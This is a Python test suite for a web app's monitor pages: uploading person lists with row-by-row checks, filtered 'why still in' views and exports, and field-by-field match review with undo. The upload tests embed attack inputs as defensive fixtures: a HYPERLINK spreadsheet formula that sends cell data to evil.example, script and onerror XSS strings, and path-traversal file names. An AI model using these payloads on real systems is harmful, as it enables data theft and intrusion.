"""The monitor's pages in the web application: uploading a list version (operators only, checked row by row,
stored under its list name and date only), why each person is still in (filters, counts, pages, exports with
inert cells), and the review of matches (the field-by-field comparison, progress, undo appended to the
ledger)."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from tests.test_web import PASSWORDS, make_app

E2E = Path(__file__).parent / "fixtures" / "monitor" / "e2e"
#: renderings of seven list people in other scripts, each short of an automatic match: seven pairs to review
RIGHT = """id,full_name,birth_year,articles,arrest_date
R-01,Гасанов Али,1985,206.3.2,2023-11-20
R-02,Ali Hasanli,1985,206,
R-03,Мамедли Рамиль,1989,,
R-04,Gasimova Ulviyya Ali gizi,1991,206.3.2,2024-12-06
R-05,Алиев Фарид,,,
R-06,Nasirov Ramin Elchin oglu,,,
R-07,Сафаров Мубариз,1965,,
"""


def seed(data: Path) -> None:
    mon = data / "monitor"
    (mon / "lists" / "e2e").mkdir(parents=True)
    shutil.copy(E2E / "list_2025-12-01.csv", mon / "lists" / "e2e" / "2025-12-01.csv")
    (mon / "review").mkdir()
    shutil.copy(E2E / "list_2025-12-01.csv", mon / "review" / "left.csv")
    (mon / "review" / "right.csv").write_text(RIGHT, encoding="utf-8")


@pytest.fixture()
def data(tmp_path):
    seed(tmp_path)
    return tmp_path


@pytest.fixture()
def client(data):
    app = make_app(data, max_upload=2_000_000)
    app.state.config.extra["warm_why"] = False     # no background decision of each uploaded list in the tests
    with TestClient(app) as c:
        yield c


def sign_in(client, role="operator") -> str:
    client.post("/logout", data={"csrf": token(client)})
    r = client.post("/login", data={"csrf": token(client), "username": role, "password": PASSWORDS[role]},
                    follow_redirects=False)
    assert r.status_code == 303, r.text
    return token(client)


def token(client) -> str:
    return re.search(r'name="csrf-token" content="([^"]*)"', client.get("/login").text).group(1)


def files_under(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


GOOD = ("id,full_name,group,articles,birth_year,term_months,arrest_date\n"
        "n1,Həsənov Əli Vüqar oğlu,journalists,206.3.2,1985,108,2023-11-20\n"
        "n2,Quliyev Elvin,religious,234.1,1990,30,2024-10-01\n")


def upload(client, tok, body: bytes | str, name="new", date="2026-01-15", filename="list.csv", **extra):
    body = body.encode("utf-8") if isinstance(body, str) else body
    return client.post("/monitor/lists", data={"csrf": tok, "list": name, "date": date, **extra},
                       files={"file": (filename, body, "text/csv")}, follow_redirects=False)


# --- uploads: the attacks first ---------------------------------------------------------------------

def test_anonymous_and_viewer_uploads_are_refused(client, data):
    before = files_under(data / "monitor")
    r = upload(client, token(client), GOOD)
    assert r.status_code in (401, 403)
    tok = sign_in(client, "viewer")                    # a lawyer or journalist reading the monitor
    r = upload(client, tok, GOOD)
    assert r.status_code == 403
    assert files_under(data / "monitor") == before
    assert 'id="list-upload-form"' not in client.get("/monitor").text


def test_upload_needs_the_csrf_token(client, data):
    sign_in(client)
    r = upload(client, "forged", GOOD)
    assert r.status_code == 403
    assert not (data / "monitor" / "lists" / "new").exists()


def test_the_file_name_from_the_request_is_never_a_path(client, data):
    tok = sign_in(client)
    before = files_under(data)
    r = upload(client, tok, GOOD, filename="../../x.csv")
    assert r.status_code == 200, r.text
    added = files_under(data) - before
    assert added == {"monitor/lists/new/2026-01-15.csv"}, added
    assert "x.csv" not in r.text
    for name, date in (("../x", "2026-01-15"), ("..", "2026-01-15"), ("a/b", "2026-01-15"),
                       ("new", "../../etc"), ("new", "2026-02-30"), ("new", "2026-1-5")):
        r = upload(client, tok, GOOD, name=name, date=date)
        assert r.status_code == 400, (name, date)
    assert files_under(data) - before == {"monitor/lists/new/2026-01-15.csv"}
    assert not list((data / "monitor" / "incoming").iterdir())      # nothing left behind


def test_hostile_cells_are_shown_inert_and_exported_neutralised(client, data):
    tok = sign_in(client)
    hostile = ("id,full_name,group,articles,birth_year\n"
               'h1,=HYPERLINK("http://evil.example/?"&A1;"click"),<script>alert(1)</script>,206.3.2,1985\n'
               "h2,<img src=x onerror=alert(2)>,@SUM(1+1),234.1,19x5\n")
    r = upload(client, tok, hostile, name="hostile")
    assert r.status_code == 200
    assert "<script>alert(1)" not in r.text and "<img src=x" not in r.text
    assert "19x5" in r.text and "birth_year" in r.text        # the finding: row, field, value, expected
    page = client.get("/monitor/why/hostile/2026-01-15")
    assert page.status_code == 200
    assert "<script>alert(1)" not in page.text and "<img src=x" not in page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    export = client.get("/monitor/why/hostile/2026-01-15/export.csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    by_id = {r["id"]: r for r in rows}
    assert by_id["h1"]["full_name"].startswith("'=HYPERLINK")
    assert by_id["h2"]["group"] == "'@SUM(1+1)"
    import openpyxl
    wb = openpyxl.load_workbook(io.BytesIO(client.get("/monitor/why/hostile/2026-01-15/export.xlsx").content))
    values = [c.value for row in wb.active.iter_rows() for c in row]
    assert not any(isinstance(v, str) and v.startswith(("=", "@", "+", "-")) for v in values)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")" in values


def test_a_huge_file_is_refused_before_anything_is_stored(client, data):
    tok = sign_in(client)
    big = GOOD + "".join(f"x{i},Name {i},g,206.3.2,1985,10,2024-01-01\n" for i in range(120_000))
    assert len(big) > 2_000_000
    r = upload(client, tok, big, name="huge")
    assert r.status_code == 413
    assert not (data / "monitor" / "lists" / "huge").exists()
    incoming = data / "monitor" / "incoming"
    assert not incoming.exists() or not list(incoming.iterdir())


def test_findings_row_field_value_expected_are_shown(client, data):
    tok = sign_in(client)
    bad = ("id,full_name,group,articles,birth_date,term_months,sex,status\n"
           "b1,Həsənov Əli,journalists,206.3.2,1985-13-01,108,M,convicted\n"
           "b2,Quliyev Elvin,religious,,1990-01-01,thirty,X,jailed\n")
    r = upload(client, tok, bad, name="bad")
    assert r.status_code == 200          # stored: the rows stay, decided as "cannot be decided"
    table = r.text[r.text.index('id="upload-findings"'):]
    cells = re.findall(r"<tr[^>]*><td>([^<]*)</td><td>([^<]*)</td><td><code>([^<]*)</code></td>", table)
    assert ("1", "birth_date", "1985-13-01") in cells
    assert ("2", "term_months", "thirty") in cells and ("2", "sex", "X") in cells
    assert ("2", "status", "jailed") in cells and ("2", "articles", "") in cells
    assert "YYYY-MM-DD" in table
    assert (data / "monitor" / "lists" / "bad" / "2026-01-15.csv").is_file()


def test_a_file_without_the_required_columns_is_not_stored(client, data):
    tok = sign_in(client)
    r = upload(client, tok, "name,articles\nA,206\n", name="nocols")
    assert r.status_code == 422
    assert 'data-stored="0"' in r.text and "full_name" in r.text
    assert not (data / "monitor" / "lists" / "nocols").exists()
    r = upload(client, tok, b"\xff\xfe\x00garbage\x00" * 10, name="binary")
    assert r.status_code == 422 and not (data / "monitor" / "lists" / "binary").exists()


def test_an_existing_version_is_replaced_only_when_asked(client, data):
    tok = sign_in(client)
    assert upload(client, tok, GOOD).status_code == 200
    assert upload(client, tok, GOOD.replace("n2,", "n3,")).status_code == 409
    path = data / "monitor" / "lists" / "new" / "2026-01-15.csv"
    assert "n2," in path.read_text(encoding="utf-8")
    r = upload(client, tok, GOOD.replace("n2,", "n3,"), replace="1")
    assert r.status_code == 200 and "n3," in path.read_text(encoding="utf-8")


def test_an_xlsx_version_is_read_and_listed(client, data):
    import openpyxl
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in csv.reader(io.StringIO(GOOD)):
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    tok = sign_in(client)
    r = upload(client, tok, buf.getvalue(), name="xl", filename="anything.csv")   # the content decides
    assert r.status_code == 200, r.text
    assert (data / "monitor" / "lists" / "xl" / "2026-01-15.xlsx").is_file()
    page = client.get("/monitor").text
    assert "/monitor/why/xl/2026-01-15" in page
    entries = client.app.state.store.audit.entries() if hasattr(client.app.state.store.audit, "entries") else []
    assert "Həsənov" not in json.dumps(entries, ensure_ascii=False)


# --- why each person is still in ---------------------------------------------------------------------

def cards(html: str) -> list[dict]:
    return [dict(zip(("relief", "group", "id"), m)) for m in
            re.findall(r'<article class="why-card[^"]*" data-relief="([^"]*)" data-group="([^"]*)" data-id="([^"]*)"',
                       html)]


def test_why_page_filters_counts_and_pages(client):
    sign_in(client, "viewer")
    page = client.get("/monitor/why/e2e/2025-12-01").text
    assert "30 of 30 persons" in page
    shown = cards(page)
    assert len(shown) == 25 and 'id="next"' in page                 # 30 people, 25 a page
    second = cards(client.get("/monitor/why/e2e/2025-12-01?page=2").text)
    assert len(second) == 5 and not {c["id"] for c in shown} & {c["id"] for c in second}
    rows = list(csv.DictReader(io.StringIO((E2E / "list_2025-12-01.csv").read_text(encoding="utf-8"))))
    journalists = {r["id"] for r in rows if r["group"] == "journalists"}
    only = client.get("/monitor/why/e2e/2025-12-01?group=journalists").text
    assert {c["id"] for c in cards(only)} == journalists
    assert f"{len(journalists)} of 30 persons" in only
    relief_counts = dict(re.findall(r'data-value="([^"]+)">[^<]*<span class="count" data-count="(\d+)"', page))
    assert sum(int(n) for n in relief_counts.values()) == 30
    for relief, n in relief_counts.items():
        got = cards(client.get(f"/monitor/why/e2e/2025-12-01?relief={relief}").text)
        assert len(got) == min(int(n), 25) and {c["relief"] for c in got} == {relief}
    kept_by_f1 = client.get("/monitor/why/e2e/2025-12-01?reason=F1").text
    assert cards(kept_by_f1) and "F1" in kept_by_f1
    assert all(c["relief"] == "none" for c in cards(kept_by_f1))
    assert client.get("/monitor/why/e2e/2025-12-01?page=x").status_code == 400


def test_why_page_gives_the_reason_the_width_and_no_codes(client):
    sign_in(client, "viewer")
    page = client.get("/monitor/why/e2e/2025-12-01?group=journalists").text
    assert "<table id=\"why\"" not in page                           # cards, not a table of empty columns
    assert page.count('<p class="reason">') == len(cards(page))
    text = re.sub(r"<[^>]+>", " ", page)
    assert "release_from_imprisonment" not in text and "excluded_by" not in text
    assert re.search(r'class="status-(reported|inferred)"', page)   # each clause with its status


def test_why_export_is_the_filtered_view(client):
    sign_in(client, "viewer")
    r = client.get("/monitor/why/e2e/2025-12-01/export.csv?group=religious&relief=none")
    assert r.status_code == 200 and "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    page = client.get("/monitor/why/e2e/2025-12-01?group=religious&relief=none").text
    assert {x["id"] for x in rows} == {c["id"] for c in cards(page)} and rows
    assert all(x["group"] == "religious" and x["relief"] == "none" for x in rows)
    assert client.get("/monitor/why/e2e/2025-12-01/export.json").status_code == 404


# --- the review ----------------------------------------------------------------------------------------

def progress(html: str) -> tuple[int, int]:
    m = re.search(r'data-judged="(\d+)" data-total="(\d+)"', html)
    return int(m.group(1)), int(m.group(2))


def test_review_page_compares_each_pair_field_by_field(client):
    sign_in(client, "viewer")
    page = client.get("/monitor/review").text
    assert progress(page) == (0, 7)
    first = page[page.index('<li class="pair'):page.index("</li>")]
    for field in ("surname", "given", "patronymic", "birth_year", "articles", "dates"):
        assert f'data-field="{field}"' in first
    assert "Гасанов Али" in page and "Həsənov Əli Vüqar oğlu" in page
    assert "gasanov ali" in page.lower()                               # the name in Latin letters
    assert "<meter" in first and "Not an automatic match because" in page
    assert 'class="judge-form"' not in page                              # a viewer has no buttons
    assert "<script>" not in page.replace('<script src="/static/review.js" defer></script>', "").replace(
        '<script src="/static/app.js"></script>', "")


def test_buttons_post_forms_progress_and_undo_appends(client, data):
    tok = sign_in(client)
    page = client.get("/monitor/review").text
    assert 'class="judge-form"' in page and 'id="undo"' in page and "<kbd>s</kbd>" in page
    pairs = re.findall(r'data-left="([^"]+)" data-right="([^"]+)"', page)
    (l1, r1), (l2, r2) = pairs[0], pairs[1]
    r = client.post("/monitor/review", data={"csrf": tok, "left_id": l1, "right_id": r1, "judgement": "same"},
                    follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/monitor/review?at=1")
    r = client.post("/monitor/review", json={"left_id": l2, "right_id": r2, "judgement": "different"},
                    headers={"x-csrf-token": tok})
    assert r.status_code == 200 and (r.json()["judged"], r.json()["total"]) == (2, 7)
    assert r.json()["reviewer"] == "operator"
    assert progress(client.get("/monitor/review").text) == (2, 7)
    ledger = data / "monitor" / "ledger.jsonl"
    lines_before = ledger.read_text(encoding="utf-8").splitlines()
    r = client.post("/monitor/review/undo", json={}, headers={"x-csrf-token": tok})   # my last judgement
    assert r.status_code == 200, r.text
    assert (r.json()["left_id"], r.json()["right_id"], r.json()["judgement"]) == (l2, r2, None)
    lines = ledger.read_text(encoding="utf-8").splitlines()
    assert lines[:len(lines_before)] == lines_before and len(lines) == len(lines_before) + 1   # appended only
    assert json.loads(lines[-1])["judgement"] == "undo"
    assert progress(client.get("/monitor/review").text) == (1, 7)
    r = client.post("/monitor/review/undo", data={"csrf": tok}, follow_redirects=False)      # the form, no JS
    assert r.status_code == 303
    assert progress(client.get("/monitor/review").text) == (0, 7)
    assert client.post("/monitor/review/undo", json={}, headers={"x-csrf-token": tok}).status_code == 409
    from clemency.monitor.ledger import Ledger
    assert Ledger(ledger).latest() == {}
    assert sum(json.loads(x)["judgement"] == "undo" for x in ledger.read_text(encoding="utf-8").splitlines()) == 2


def test_undo_is_for_operators_with_the_token(client):
    tok = sign_in(client, "viewer")
    assert client.post("/monitor/review/undo", json={}, headers={"x-csrf-token": tok}).status_code == 403
    sign_in(client)
    assert client.post("/monitor/review/undo", json={}).status_code == 403          # no CSRF token
    r = client.post("/monitor/review/undo", json={"left_id": "e01", "right_id": "nobody"},
                    headers={"x-csrf-token": token(client)})
    assert r.status_code == 404


def test_monitor_page_shows_the_review_progress_and_upload_form(client):
    sign_in(client)
    page = client.get("/monitor").text
    assert 'id="list-upload-form"' in page and 'enctype="multipart/form-data"' in page
    assert "judged 0 of 7 pairs" in page


def test_monitor_pages_in_azerbaijani_have_translated_labels(client):
    sign_in(client)
    page = client.get("/monitor/review?lang=az").text
    assert "Same person" not in page and "Previous" not in page and "judged 0 of 7" not in page
    page = client.get("/monitor/why/e2e/2025-12-01?lang=az").text
    assert "export this view" not in page and "of 30 persons" not in page and "clear all" not in page


def test_the_cli_imports_a_version_with_the_same_findings(tmp_path):
    from click.testing import CliRunner

    from clemency.cli import main
    src = tmp_path / "src.csv"
    src.write_text(GOOD + "n5,Secret Name,activists,206.3.2,19x5,12,2024-01-01\n", encoding="utf-8")
    data = tmp_path / "data"
    r = CliRunner().invoke(main, ["monitor", "lists", "import", str(src), "--list", "pp", "--date", "2026-01-15",
                                  "--data", str(data), "--findings", str(tmp_path / "f.csv")])
    assert r.exit_code == 0, r.output
    assert (data / "monitor" / "lists" / "pp" / "2026-01-15.csv").read_bytes() == src.read_bytes()
    assert "row 3: birth_year" in r.output and "19x5" not in r.output and "Secret" not in r.output
    found = list(csv.DictReader((tmp_path / "f.csv").open(encoding="utf-8")))
    assert [(f["row"], f["field"], f["value"]) for f in found] == [("3", "birth_year", "19x5")]
    r = CliRunner().invoke(main, ["monitor", "lists", "import", str(src), "--list", "pp", "--date", "2026-01-15",
                                  "--data", str(data)])
    assert r.exit_code != 0 and "exists already" in r.output
    (tmp_path / "bad.csv").write_text("name\nx\n", encoding="utf-8")
    r = CliRunner().invoke(main, ["monitor", "lists", "import", str(tmp_path / "bad.csv"), "--list", "pp",
                                  "--date", "2026-01-16", "--data", str(data)])
    assert r.exit_code == 1 and not (data / "monitor" / "lists" / "pp" / "2026-01-16.csv").exists()
